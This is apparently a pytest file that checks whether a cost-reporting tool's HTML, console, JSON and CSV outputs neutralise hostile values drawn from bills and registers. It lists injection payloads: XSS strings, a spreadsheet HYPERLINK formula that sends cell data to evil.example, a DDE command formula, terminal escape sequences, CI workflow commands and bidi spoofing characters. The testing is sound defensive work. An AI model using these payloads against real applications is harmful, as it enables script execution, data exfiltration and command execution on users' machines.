"""Values from bills and registers are hostile: no output runs them, hides them or loses them."""

from __future__ import annotations

import csv as csv_module
import io
import json as json_module
import re
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from governor.ledger.read import Run
from governor.reports import REPORTS, console, csv, html, json
from governor.reports.display import visible
from tests.reports.pages import Reader, strange
from tests.reports.test_console import plain, shown
from tests.run_builder import DEFAULT_PARAMETERS, build_run, default_rows, finding
from tests.run_figures import restated

VALUES = {
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "unquoted": "x onmouseover=alert(1) ",
    "closing": "</title></style></script></table><svg onload=alert(1)>",
    "address": "javascript:alert(1)",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1,1)",
    "tab": "\t=1+1",
    "markup": "[/x][bold red]x[/bold red][link=http://evil.example]x[/link]",
    "emoji": ":bomb: :warning:",
    "link": "[click](http://evil.example)![](http://evil.example/t.png)",
    "mention": "@org/all",
    "workflow": "x\n::add-mask::x\n::error file=a,line=1::x",
    "escape": "\x1b[2J\x1b[31mred\x1b]8;;http://evil.example\x07link\x1b]8;;\x07\x9b31m",
    "bidi": "abc\u202egnp.exe\u2066\u2069",
    "zero_width": "pay\u200bments\ufeff\u00ad\U000e0041",
    "template": "{{ 7*7 }}{% raw %}{0.__class__}${x}%s",
    "entity": "&lt;script&gt;&#60;b&#62;",
    "quotes": "'\"`\\",
    "separators": "a\u2028b\u2029c\x85d\x0be",
    "nul": "a\x00b",
    "long": "x" * 10_000,
    "surrogate pair": "\U0001f4a3",
}
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\U000e0000-\U000e007f]")


PLACES = {
    "totals": "source",
    "allocations": "source cost_center policy rule pool sub_account_id service_name reason",
    "cost_centers": "cost_center name parent owner_email mode",
    "verdicts": "requirement title",
    "scores": "scope_id",
    "gaps": "source scope reason detail permission",
    "rejects": "source file column value reason",
    "restatements": "source sub_account_id service_name cost_center charge_period",
    "policies": "policy title why file",
    "waivers": "waiver requirements reason approved_by ticket",
    "register_cost_centers": "name owner_email",
    "register_accounts": "account_id name",
    "tie_out": "source issuer invoice_id billing_account_id detail",
    "bridge": "source",
    "commitments": "source id",
}
FINDING = (
    "subject title sub_account_id sub_account_name service_name region_id cost_center owner observed message remedy"
)


def rows() -> dict[str, list[dict[str, Any]]]:
    """Put every value wherever a bill, a register, a tag, a file name or a policy can put one."""
    made = default_rows()
    made["restatements"] = restated()[:-1]
    for table, columns in PLACES.items():
        row = made[table][-1]
        made[table] += [{**row, **dict.fromkeys(columns.split(), value)} for value in VALUES.values()]
    made["findings"] = [
        finding(**dict.fromkeys([*FINDING.split(), "observed_from"], value), requirement=f"{value}.conflict", cost=cost)
        for cost, value in enumerate(VALUES.values(), 1)
    ]
    return made


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Run:
    """A run that is full of hostile values."""
    parameters = DEFAULT_PARAMETERS | {"organization": "".join(v for v in VALUES.values() if len(v) < 100)}
    return build_run(tmp_path_factory.mktemp("hostile") / "ledger", rows(), parameters=parameters)


@pytest.mark.parametrize("name", REPORTS)
def test_a_page_shows_the_values_and_nothing_but_the_values(run: Run, name: str) -> None:
    """No tag, attribute or address of a page comes from data; each value is there, as text that can be read."""
    page = html.page(run, name)[0]
    assert not list(strange(page))
    assert page.count("<script>") == page.count("<style>") == page.count("<h1>") == 1
    assert not CONTROLS.search(page)
    reader = Reader(page)
    for value in VALUES.values():
        assert visible(value) in reader.text, value
        assert not [a for a in reader.attributes if value in (a[1] or "")], value


def test_a_pipe_gets_one_line_a_fact_whatever_the_value(run: Run) -> None:
    """No value starts a line of its own: no workflow command, no forged fact, no escape sequence."""
    text = console.render(run, [Path("out") / "x.html"])
    assert not CONTROLS.search(text)
    kinds = {"run", "score", "shares", "total", "delivery", "invoices", "finding", "gap", "report"}
    assert {line.split(" ")[0] for line in text.splitlines()} == kinds
    for value in VALUES.values():
        assert visible(value) in text, value
    lines = console.findings_lines(run, 1_000)
    assert len(lines) == len(VALUES)
    assert all(len(line.splitlines()) == 1 and not CONTROLS.search(line) for line in lines)


def test_a_terminal_gets_no_markup_and_no_escape_from_data(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    """The only escape sequences are our own colours: no cursor, no title, no link, and nothing is taken for markup."""
    text = plain(shown(run, monkeypatch, columns=200))
    assert not CONTROLS.search(text)
    read = re.sub(r"\s", "", text)
    for value in VALUES.values():
        assert re.sub(r"\s", "", visible(value)) in read, value


def test_json_reads_back_the_values_themselves(run: Run) -> None:
    """JSON is for machines: each value unchanged, and the text plain ASCII on whatever terminal it meets."""
    text = json.render(run)
    assert text.isascii()
    assert not CONTROLS.search(text)
    read = json_module.loads(text)
    assert {gap["detail"] for gap in read["gaps"]} >= set(VALUES.values())
    assert {total["source"] for total in read["totals"]} >= set(VALUES.values())


@pytest.mark.parametrize("spreadsheet", [False, True])
def test_csv_reads_back_the_values_and_a_spreadsheet_runs_none(run: Run, tmp_path: Path, spreadsheet: bool) -> None:
    """Raw is raw; guarded text begins with an apostrophe where it could be a formula, and every row has all columns."""
    for path in csv.render(run, tmp_path, spreadsheet=spreadsheet):
        found = list(csv_module.reader(io.StringIO(path.read_bytes().decode(), newline=""), strict=True))
        assert len(found) == len(run.rows(path.stem)) + 1
        assert {len(row) for row in found} == {len(found[0])}
        fields = {field for row in found for field in row}
        for value in VALUES.values():
            dangerous = spreadsheet and value.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
            assert ("'" + value if dangerous else value) in fields, value
        if spreadsheet:
            assert not [f for f in fields if f.startswith(("=", "+", "@", "\t", "\r", "\n"))]
            assert all(Decimal(f) < 0 for f in fields if f.startswith("-"))
